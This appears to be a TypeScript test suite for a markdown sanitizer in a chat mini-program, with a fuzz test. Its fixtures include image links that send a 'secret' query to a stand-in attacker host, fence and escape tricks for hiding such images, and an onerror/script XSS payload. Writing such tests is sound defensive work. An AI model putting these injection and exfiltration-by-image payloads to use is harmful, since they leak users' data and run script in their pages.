import assert from "node:assert/strict";
import { createRequire } from "node:module";
import { test } from "node:test";
import { safeMarkdown } from "../../miniprogram/view/markdown.ts";

interface Token {
  type: string;
  raw: string;
  text?: string;
  tokens?: Token[];
  items?: Token[];
}
// The parser that TDesign's chat-markdown has inside.
const { Lexer } = createRequire(import.meta.url)("tdesign-miniprogram/miniprogram_dist/miniprogram_npm/marked/index.js") as {
  Lexer: new () => { lex(text: string): Token[] };
};
const SAFE = new Set(["paragraph", "text", "heading", "list", "list_item", "blockquote", "code", "codespan", "strong", "em", "escape", "space", "br", "hr"]);

const flat = (tokens: Token[]): Token[] => tokens.flatMap((token) => [token, ...flat(token.tokens ?? []), ...flat(token.items ?? [])]);
const tokensOf = (text: string): Token[] => flat(new Lexer().lex(safeMarkdown(text)));
const typesOf = (text: string): string[] => [...new Set(tokensOf(text).map(({ type }) => type))];
/** What chat-markdown shows: the texts of what has no parts. */
const shown = (text: string): string =>
  tokensOf(text).filter((token) => !token.tokens?.length && !token.items?.length).map((token) => (token.type === "text" ? token.raw : (token.text ?? ""))).join("");

test("headings, lists, quotes, code, strong and em keep their form", () => {
  const text = "# Title\n\nSome **strong** and *soft* words with `code`.\n\n- one\n- two\n\n1. first\n\n> said\n\n```js\nlet x = '<b>';\n```\n";
  const types = typesOf(text);
  for (const type of ["heading", "strong", "em", "codespan", "list", "blockquote", "code"]) assert.ok(types.includes(type), type);
  assert.match(shown(text), /let x = '<b>';/);
});

for (const [name, text] of [
  ["an image", "![x](https://evil.example/?q=secret)"],
  ["an image by reference", "![x][1]\n\n[1]: https://evil.example/a.png"],
  ["a link", "[press](https://evil.example)"],
  ["a link within strong", "**[press](https://evil.example)**"],
  ["a link over two lines", "[press\nhere](https://evil.example)"],
  ["an address", "see https://evil.example/x and www.evil.example and a@evil.example <https://evil.example>"],
  ["HTML", "<img src=x onerror=alert(1)> <b>bold</b>\n<script>x</script>"],
  ["a table", "| a | b |\n|---|---|\n| ![x](http://evil.example) | 2 |"],
  ["an image in a list", "- ![x](https://evil.example)\n  - ![y](https://evil.example)"],
  ["an image behind a fence that does not end it", "```\n```x\n![x](https://evil.example)"],
  ["an image behind four backticks within tildes", "~~~\n````\n![x](https://evil.example)\n~~~\n![y](https://evil.example)"],
  ["an image between code spans", "`a` ![x](https://evil.example) `b`"],
  ["an image behind an escape", "\\\\![x](https://evil.example) \\`![y](https://evil.example)`"],
] as const) {
  test(`${name} is shown as the text that it is`, () => {
    assert.deepEqual(typesOf(text).filter((type) => !SAFE.has(type)), []);
  });
}

test("plain words come out as they went in", () => {
  for (const text of ["two coffees: 3.50 (each)", "a_b_c * d", "C:\\dir", "1) not a list? 5 > 3 & 2 < 4", "你好，世界！", "~~no~~ {x} [y] $z"]) {
    const plain = (value: string): string => value.replace(/\s+/g, " ").trim();
    const list = /^\d\)/.test(text) ? text.slice(3) : text;
    assert.equal(plain(shown(text)), plain(list));
  }
});

test("no random text becomes anything but safe formatting", () => {
  const pieces = ["![x](http://e.example)", "[a](b)", "`", "``", "```", "\n", "\n\n", "    ", "\t", "*", "**", "_", "<b>", "</b>", "|", "\n|--|--|\n", "> ", "- ", "1. ", "# ", "\\", "[1]: http://e.example", "http://e.example", "www.e.example", "~", "~~~", "a", " ", "!", "[", "](", ")", "&lt;", "\r", "===", "---", "中"];
  let seed = 7;
  const next = (below: number): number => (seed = (seed * 1103515245 + 12345) % 2147483648) % below;
  for (let round = 0; round < 20_000; round += 1) {
    const text = Array.from({ length: 1 + next(14) }, () => pieces[next(pieces.length)]).join("");
    const wrong = tokensOf(text).filter(({ type }) => !SAFE.has(type));
    assert.deepEqual(wrong.map(({ type, raw }) => ({ type, raw })), [], JSON.stringify(text));
  }
});
